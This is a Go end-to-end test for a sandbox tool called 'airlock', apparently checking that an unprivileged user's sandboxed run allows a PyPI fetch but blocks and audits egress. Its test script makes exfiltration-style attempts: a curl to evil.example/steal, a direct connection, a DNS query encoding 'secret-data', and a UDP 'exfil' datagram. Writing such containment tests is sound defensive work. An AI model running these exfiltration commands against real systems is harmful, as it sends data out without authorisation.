package e2e

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/audit"
	"github.com/airlock-dev/airlock/test/roottest"
)

// rootlessUID is the unprivileged user the rootless tests run airlock as
// (nobody: no sudo, no capabilities, no daemon).
const rootlessUID = 65534

// rootlessEnv is one rootless run's files, all in a directory the user can
// read: the binary, the config, the fake internet's CA, the user's audit
// directory, workspace and XDG_RUNTIME_DIR.
type rootlessEnv struct {
	t                         *testing.T
	dir, bin, config, audit   string
	workspace, runtime, state string
}

// newRootlessEnv copies the airlock binary and the fake internet's CA where
// the user can read them and writes a config like newEnv's. Everything is
// removed at cleanup, even on failure.
func newRootlessEnv(t *testing.T) *rootlessEnv {
	t.Helper()
	roottest.Require(t)
	if w == nil {
		t.Fatal("e2e: fake internet not set up")
	}
	dir, err := os.MkdirTemp("", "alk-rootless-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	e := &rootlessEnv{t: t, dir: dir, bin: filepath.Join(dir, "airlock"), config: filepath.Join(dir, "airlock.yaml"),
		audit: filepath.Join(dir, "audit", "audit.jsonl"), workspace: filepath.Join(dir, "ws"),
		runtime: filepath.Join(dir, "xdg-run"), state: filepath.Join(dir, "state")}
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.Chmod(dir, 0o755))
	must(copyFile(w.bin, e.bin, 0o755))
	ca := filepath.Join(dir, "fakenet-ca.pem")
	must(copyFile(w.caFile, ca, 0o644))
	for _, d := range []struct {
		path string
		mode os.FileMode
	}{{filepath.Dir(e.audit), 0o700}, {e.workspace, 0o755}, {e.runtime, 0o700}, {e.state, 0o700}} {
		must(os.Mkdir(d.path, d.mode))
		must(os.Chown(d.path, rootlessUID, rootlessUID))
	}
	yaml := fmt.Sprintf(`policy: {mode: enforce}
dns: {upstreams: [%q]}
upstream: {allow_cidrs: [%q], ca_file: %q}
audit: {file: %q}
ca: {cert: %q, key: %q}
limits: {pids: 512, timeout: 3m, tmp_size: 256M}
`, w.net.DNSAddr.String(), w.net.Subnet.String(), ca, e.audit,
		filepath.Join(dir, "no-ca", "ca.pem"), filepath.Join(dir, "no-ca", "ca.key"))
	must(os.WriteFile(e.config, []byte(yaml), 0o644))
	return e
}

func copyFile(src, dst string, mode os.FileMode) error {
	b, err := os.ReadFile(src)
	if err != nil {
		return err
	}
	return os.WriteFile(dst, b, mode)
}

// run runs `airlock run` as the user, in the workspace, with no more
// environment than a login would give (and no sudo).
func (e *rootlessEnv) run(script string) result {
	e.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), runTimeout)
	defer cancel()
	uid := fmt.Sprint(rootlessUID)
	cmd := exec.CommandContext(ctx, "setpriv", "--reuid", uid, "--regid", uid, "--clear-groups", "--",
		"env", "-i", "PATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", "HOME=/nonexistent", "LANG=C.UTF-8",
		"XDG_RUNTIME_DIR="+e.runtime, "XDG_STATE_HOME="+e.state,
		e.bin, "--socket", filepath.Join(e.dir, "no-daemon.sock"), "run", "--config", e.config, "--", "/bin/sh", "-c", script)
	cmd.Dir = e.workspace
	cmd.WaitDelay = 10 * time.Second
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	res := result{stdout: out.String(), stderr: errb.String()}
	var ee *exec.ExitError
	switch {
	case err == nil:
	case errors.As(err, &ee):
		res.code = ee.ExitCode()
	default:
		e.t.Fatalf("airlock run as uid %d: %v\n%s", rootlessUID, err, res)
	}
	e.t.Logf("rootless airlock run\n%s", res)
	return res
}

// withSubIDs gives the user a subordinate uid and gid range for the test
// and removes exactly those lines afterwards.
func withSubIDs(t *testing.T, start int) {
	t.Helper()
	line := fmt.Sprintf("%d:%d:65536\n", rootlessUID, start)
	for _, f := range []string{"/etc/subuid", "/etc/subgid"} {
		old, err := os.ReadFile(f)
		if err != nil && !errors.Is(err, os.ErrNotExist) {
			t.Fatal(err)
		}
		if err := os.WriteFile(f, append(append([]byte{}, old...), line...), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			cur, err := os.ReadFile(f)
			if err == nil {
				err = os.WriteFile(f, bytes.Replace(cur, []byte(line), nil, 1), 0o644)
			}
			if err != nil {
				t.Errorf("restore %s: %v", f, err)
			}
		})
	}
}

// TestRootRootlessRun: `airlock run` as an ordinary user (nobody, no sudo,
// no daemon) gets the same island: an allowed HTTPS GET passes, a denied
// host and a direct connection to its address are refused with the host
// seeing nothing, a DNS question carrying data is refused with the real
// resolver never asked, a datagram is dropped, and the audit log verifies.
// Once with the user mapped alone, once with a subordinate range (the
// sandbox then runs as a uid of its own).
func TestRootRootlessRun(t *testing.T) {
	for _, tc := range []struct {
		name    string
		subIDs  int // first subordinate id, 0: none
		wantUID string
		mode    string
	}{
		{"one id", 0, "0", "runs as you"},
		{"subordinate uid", 1200000, "1000", "sandbox uid 1200000"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newRootlessEnv(t)
			if tc.subIDs != 0 {
				withSubIDs(t, tc.subIDs)
			}
			const secretName = "secret-data.exfil.example"
			pypiBefore, evilBefore := snap(w.pypi), snap(w.evil)
			qBefore := w.net.Queries(secretName)
			res := e.run(`
echo "uid=$(id -u)"
curl -sS --max-time 60 -o /tmp/body -w 'get=%{http_code}\n' https://pypi.org/simple/
echo "body=$(cat /tmp/body)"
curl -sS --max-time 60 -o /dev/null -w 'evil=%{http_connect}\n' https://evil.example/steal?k=v
curl -sS --noproxy '*' --max-time 30 -o /dev/null -w 'direct=%{http_code}\n' http://` + w.evil.IP.String() + `/direct
echo "dns=$(dig +time=10 +tries=2 @` + w.net.DNSAddr.Addr().String() + ` ` + secretName + ` A | grep -o 'status: [A-Z]*' | cut -d' ' -f2)"
python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"exfil", ("` + w.evil.IP.String() + `", 9999))' 2>/dev/null; echo "udp_sent=$?"
sleep 0.5 # the drop's NFLOG batch reaches the gateway within 50 ms
`)
			wantCode(t, res, 0)
			if !strings.Contains(res.stderr, "airlock: rootless:") || !strings.Contains(res.stderr, tc.mode) {
				t.Errorf("stderr: want the rootless line naming %q\n%s", tc.mode, res)
			}
			m := kv(res.stdout)
			wantKV(t, m, "uid", tc.wantUID, res)
			wantKV(t, m, "get", "200", res)
			wantKV(t, m, "body", "hello from pypi.org/simple/", res)
			wantKV(t, m, "evil", "403", res)
			wantKV(t, m, "direct", "403", res)
			wantKV(t, m, "dns", "NXDOMAIN", res)
			wantKV(t, m, "udp_sent", "1", res) // EPERM: the island drops it
			if d := snap(w.pypi).sub(pypiBefore); d.requests != 1 {
				t.Errorf("pypi.org: got %d requests, want 1", d.requests)
			}
			if d := snap(w.evil).sub(evilBefore); d.conns != 0 || d.requests != 0 {
				t.Errorf("evil.example: got %d connections, %d requests, want none", d.conns, d.requests)
			}
			if d := w.net.Queries(secretName) - qBefore; d != 0 {
				t.Errorf("the fake resolver got %d queries for %s, want 0", d, secretName)
			}
			recs := readRootlessLog(t, e.audit)
			mustFind(t, recs, match{kind: audit.KindHTTP, decision: audit.DecisionAllow, host: "pypi.org", method: "GET"})
			mustFind(t, recs, match{kind: audit.KindConnect, decision: audit.DecisionDeny, host: "evil.example"})
			mustFind(t, recs, match{kind: audit.KindDNS, decision: audit.DecisionDeny, qname: secretName})
			mustFind(t, recs, match{kind: audit.KindDrop})
			mustNotFind(t, recs, match{decision: audit.DecisionAllow, host: "evil.example"})
			if out, err := exec.Command(w.bin, "audit", "verify", "--pubkey", e.audit+".key.pub", e.audit).CombinedOutput(); err != nil {
				t.Errorf("audit verify: %v\n%s", err, out)
			}
			entries, _ := os.ReadDir(filepath.Join(e.runtime, "airlock"))
			if len(entries) != 0 {
				t.Errorf("the run directory is left in %s: %v", e.runtime, entries)
			}
		})
	}
}

// readRootlessLog reads the audit log the user's airlock wrote.
func readRootlessLog(t *testing.T, path string) []audit.Record {
	t.Helper()
	return (&env{t: t, audit: path}).records()
}
